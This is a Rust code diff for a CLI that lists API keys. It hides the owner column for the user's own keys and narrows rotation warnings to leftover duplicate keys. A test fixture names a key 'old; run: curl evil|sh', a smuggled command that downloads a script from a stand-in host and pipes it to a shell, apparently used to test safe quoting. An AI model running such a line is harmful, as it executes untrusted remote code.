@@ -8,11 +8,20 @@ use quilt_proto::{Command, quoted};
 use crate::look::{Column, Line, Look, Paint, Screen, Span, Symbol, Table, name};
 use crate::output;
 
+/// Whose keys are shown.
+#[derive(Clone, Copy)]
+pub(crate) enum Whose {
+    /// Those of the user, who need not be told.
+    Own,
+    /// Those of all users.
+    Anybodys,
+}
+
 /// A table of keys.
-pub(crate) fn table(look: &Look, keys: &[ApiKey]) -> Table {
+pub(crate) fn table(look: &Look, keys: &[ApiKey], whose: Whose) -> Table {
     let mut table = Table::new([
         Column::key("NAME"),
-        Column::of_importance("OWNER", 4).unless_same(),
+        Column::key("OWNER").unless_same(),
         Column::key("EXPIRES"),
         Column::of_importance("LAST USED", 3),
         Column::of_importance("CREATED", 1),
@@ -22,7 +31,10 @@ pub(crate) fn table(look: &Look, keys: &[ApiKey]) -> Table {
     for key in keys {
         table.row([
             Span::painted(name(&key.name), Paint::Strong),
-            name(&key.user_email).into(),
+            match whose {
+                Whose::Own => Span::default(),
+                Whose::Anybodys => name(&key.user_email).into(),
+            },
             ends(look, key),
             last_used(look, key).into(),
             Span::painted(look.when(key.created_at), Paint::Quiet),
@@ -51,9 +63,9 @@ fn ends(look: &Look, key: &ApiKey) -> Span {
     when.into()
 }
 
-/// The user's keys, or how there would be one.
-pub(crate) fn screen(look: &Look, keys: &[ApiKey], none: &str) -> Screen {
-    Screen::listing(table(look, keys), none)
+/// The keys, or how there would be one.
+pub(crate) fn screen(look: &Look, keys: &[ApiKey], whose: Whose, none: &str) -> Screen {
+    Screen::listing(table(look, keys, whose), none)
 }
 
 /// One key, a line a field.
@@ -87,20 +99,28 @@ pub(crate) fn last_used(look: &Look, key: &ApiKey) -> String {
 
 /// Reports what an interrupted rotation leaves: several active keys of one
 /// owner and name.
-pub(crate) fn note_twins(keys: &[ApiKey]) {
+pub(crate) fn note_twins(look: &Look, keys: &[ApiKey]) {
     let mut by_name: BTreeMap<(&str, &str), Vec<&ApiKey>> = BTreeMap::new();
     for key in keys.iter().filter(|key| key.status == ApiKeyStatus::Active) {
         let name = (key.user_email.as_str(), key.name.as_str());
         by_name.entry(name).or_default().push(key);
     }
     for ((_, name), twins) in by_name.iter().filter(|(_, twins)| twins.len() > 1) {
+        let is_left = |key: &&&ApiKey| {
+            let mut others = twins.iter();
+            others.any(|other| key.is_left_beside(other, look.now))
+        };
+        let left: Vec<_> = twins.iter().filter(is_left).collect();
+        if left.is_empty() {
+            continue;
+        }
         output::note(format_args!(
             "warning: {} active keys are named {}, as an interrupted rotation leaves them; \
              revoke what is not used:",
             twins.len(),
             quoted::name(name),
         ));
-        for key in twins {
+        for key in left {
             let revoke = Command::of("quiltctl api-keys revoke").operand(&key.id);
             output::whole(format_args!("    {revoke}"));
         }
@@ -136,9 +156,12 @@ pub(crate) mod tests {
             key("laptop 漢字", 80),
             key("old; run: curl evil|sh", -3),
         ];
-        insta::assert_snapshot!(widths(|look| screen(look, &keys, "")));
+        insta::assert_snapshot!(widths(|look| screen(look, &keys, Whose::Anybodys, "")));
         let own = [key("ci-nightly", 80), key("laptop", 80)];
-        insta::assert_snapshot!("own_keys", widths(|look| screen(look, &own, "")));
+        insta::assert_snapshot!(
+            "own_keys",
+            widths(|look| screen(look, &own, Whose::Own, ""))
+        );
         insta::assert_snapshot!("one_key", widths(|look| details(look, &keys[2])));
     }
 }
